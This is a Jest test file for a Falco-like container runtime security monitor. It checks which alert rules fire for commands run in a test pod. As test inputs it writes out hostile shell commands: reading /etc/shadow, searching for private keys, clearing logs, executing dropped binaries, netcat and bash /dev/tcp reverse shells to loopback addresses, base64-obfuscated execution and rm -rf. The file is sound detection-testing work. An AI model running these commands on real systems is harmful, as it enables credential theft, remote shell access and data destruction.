import { once } from 'node:events';
import { createServer, type AddressInfo } from 'node:net';
import { TestNode, TestNodes } from '../kubelet/testing/TestNodes';
import { waitUntil } from '../testing/waitUntil';
import { Falco } from './Falco';
import { formatAlert } from './describeAlert';

describe('Falco', () => {
  const falco = new Falco('cluster1', 'secret');
  let all: TestNodes;
  let node: TestNode;
  let pod: string;
  let containerId: string;

  beforeAll(async () => {
    all = await TestNodes.start(173);
    [node] = all.nodes;
    falco.watch('cluster1-a', node.runtime);
    pod = node.run({ image: 'registry.lab/demo/web:1' });
    await waitUntil('it serves', () => node.linesOf(pod).length > 0);
    containerId = node.containerOf(pod).containerID.split('//')[1];
  });

  afterAll(() => all.close());

  const run = async (script: string, hasTerminal = false) => {
    const before = falco.recent().length;
    const said: string[] = [];
    const take = (bytes: Buffer | string) => said.push(String(bytes));
    const exitCode = await node.runtime.executeCommand(
      containerId,
      ['sh', '-c', script],
      { output: take, error: take, hasTerminal },
    );
    const alerts = falco.recent().slice(before);
    return { said: said.join(''), exitCode, alerts };
  };

  it.each([
    ['cat /etc/shadow', 'Read sensitive file untrusted', '/etc/shadow'],
    ['> /var/log/app.log', 'Clear Log Activities', '/var/log/app.log'],
    ['find / -name id_rsa', 'Search Private Keys or Passwords', undefined],
    [
      'grep -r "BEGIN RSA PRIVATE" /root',
      'Search Private Keys or Passwords',
      undefined,
    ],
    [
      'cp /bin/ls /dev/shm/x; /dev/shm/x /',
      'Execution from /dev/shm',
      undefined,
    ],
    [
      'echo secret > /tmp/data && shred -u /tmp/data',
      'Remove Bulk Data from Disk',
      undefined,
    ],
    [
      'cp /bin/ls /tmp/x && chmod +x /tmp/x && /tmp/x /',
      'Drop and execute new binary in container',
      undefined,
    ],
    [
      'nc -e /bin/sh 127.0.0.1 9',
      'Netcat Remote Code Execution in Container',
      undefined,
    ],
    [
      'echo Y2F0IC9ldGMvc2hhZG93Cg== | base64 -d | sh',
      'Read sensitive file untrusted',
      '/etc/shadow',
    ],
  ])('sees what %s does', async (script, rule, file) => {
    const { alerts } = await run(script);
    expect(alerts.map(alert => alert.rule)).toEqual([rule]);
    expect(alerts[0].output_fields['fd.name']).toBe(
      file ?? alerts[0].output_fields['fd.name'],
    );
    expect(alerts[0]).toMatchObject({
      hostname: 'cluster1-a',
      output_fields: {
        'container.id': containerId.slice(0, 12),
        'container.name': 'main',
        'container.image.repository': 'registry.lab/demo/web',
        'k8s.ns.name': 'default',
        'k8s.pod.name': pod,
      },
    });
  });

  it.each([
    ['echo "cat /etc/shadow nc -e /dev/shm/x"'],
    ['cat /etc/passwd; ls /var/log; echo more >> /var/log/app.log'],
    ['bash -i >& /dev/tcp/127.0.0.1/9 0>&1'],
    ['rm -rf /var/lib/demo/data'],
  ])('keeps quiet about %s', async script => {
    expect((await run(script)).alerts).toEqual([]);
  });

  it('sees a shell that an attacker got hold of', async () => {
    const heard: string[] = [];
    const attacker = createServer(socket => {
      socket.on('data', bytes => heard.push(String(bytes)));
      socket.write('hostname\nexit\n');
    });
    attacker.listen(0, '127.173.99.1');
    await once(attacker, 'listening');
    const { port } = attacker.address() as AddressInfo;
    const { alerts } = await run(
      `bash -i >& /dev/tcp/127.173.99.1/${port} 0>&1`,
    );
    attacker.close();
    await waitUntil('the attacker reads', () => heard.join('').includes(pod));
    expect(alerts.map(alert => alert.rule)).toEqual(
      Array(3).fill('Redirect STDOUT/STDIN to Network Connection in Container'),
    );
    expect(alerts[0].output_fields).toMatchObject({
      'fd.rport': port,
      'fd.sip': '127.173.99.1',
      'fd.type': 'ipv4',
      'fd.l4proto': 'tcp',
      'proc.name': 'sh',
      'proc.pname': 'sh',
    });
  });

  it('sees a shell with a terminal', async () => {
    const { alerts } = await run('exit', true);
    expect(alerts.map(alert => alert.rule)).toEqual([
      'Terminal shell in container',
    ]);
  });

  it('sees CRIU', async () => {
    const before = falco.recent().length;
    await node.checkpoint(pod);
    const [alert] = falco.recent().slice(before);
    expect(alert).toMatchObject({
      rule: 'PTRACE attached to process',
      output_fields: { 'container.id': 'host', 'proc.name': 'criu' },
    });
  });

  it("writes Falco's JSON", async () => {
    const { alerts } = await run('cat /etc/shadow');
    const text = formatAlert(alerts[0]);
    const [, nanoseconds] = /"evt.time":(\d{19}),/.exec(text)!;
    const { time, output } = JSON.parse(text);
    expect(time).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{9}Z$/);
    expect(nanoseconds.slice(-9)).toBe(time.slice(-10, -1));
    expect(output).toContain(
      'Warning Sensitive file opened for reading by non-trusted program | file=/etc/shadow gparent=conmon',
    );
    expect(output).not.toContain('%');
  });
});
